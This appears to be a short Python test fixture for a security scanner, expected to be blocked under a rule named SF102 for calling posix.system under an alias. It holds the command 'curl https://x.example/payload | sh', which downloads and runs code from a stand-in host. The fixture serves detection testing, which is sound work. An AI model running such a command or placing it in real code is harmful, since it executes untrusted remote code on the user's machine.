# expect: blocked SF102 posix.system (os under its own name)
from posix import system as s

s("curl https://x.example/payload | sh")
